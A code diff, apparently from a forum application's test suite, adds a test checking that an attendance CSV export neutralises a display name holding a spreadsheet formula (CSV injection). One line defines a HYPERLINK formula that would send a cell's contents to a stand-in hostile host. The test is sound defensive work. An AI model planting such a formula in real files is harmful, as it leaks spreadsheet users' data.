@@ -1,4 +1,5 @@
 import { randomUUID } from "node:crypto";
+import { parse } from "csv-parse/sync";
 import mongoose from "mongoose";
 import type TestAgent from "supertest/lib/agent.js";
 import type { AttendanceReport, PostView, RoomMinutesView, RoomStateView } from "@forum/shared";
@@ -419,6 +420,33 @@ describe("attendance", () => {
         new RegExp(`^całe spotkanie;${people.memberA.name};[^;]*;2026-03-10 09:00;2026-03-11 10:30;330$`),
       ),
     );
+  });
+
+  it("writes a display name that a spreadsheet would run as a formula as text (CSV injection)", async () => {
+    const formula = '=HYPERLINK("http://zly.example/?"&C2;"Lista")';
+    // A name as a person may type it in the profile (the schema takes any characters).
+    await User.updateOne({ _id: people.piotr._id }, { $set: { name: formula } });
+    try {
+      const response = await agents.moderator
+        .get(`/api/meetings/${meetingId}/attendance.csv`)
+        .buffer(true)
+        .parse((res, done) => {
+          const chunks: Buffer[] = [];
+          res.on("data", (chunk: Buffer) => chunks.push(chunk));
+          res.on("end", () => done(null, Buffer.concat(chunks).toString("utf8")));
+        });
+      expect(response.status).toBe(200);
+      const rows = parse(response.body as string, { bom: true, delimiter: ";", columns: true }) as Record<
+        string,
+        string
+      >[];
+      const piotrRows = rows.filter((row) => row["Imię i nazwisko"]?.includes("HYPERLINK"));
+      expect(piotrRows.map((row) => row["Imię i nazwisko"])).toEqual([`'${formula}`, `'${formula}`, `'${formula}`]);
+      // Minutes stay numbers a spreadsheet can add up.
+      expect(piotrRows.map((row) => row["Minut obecności"])).toEqual(["30", "30", "60"]);
+    } finally {
+      await User.updateOne({ _id: people.piotr._id }, { $set: { name: people.piotr.name } });
+    }
   });
 
   it("is shown to moderators only (and the group's facilitators), hidden from other groups", async () => {
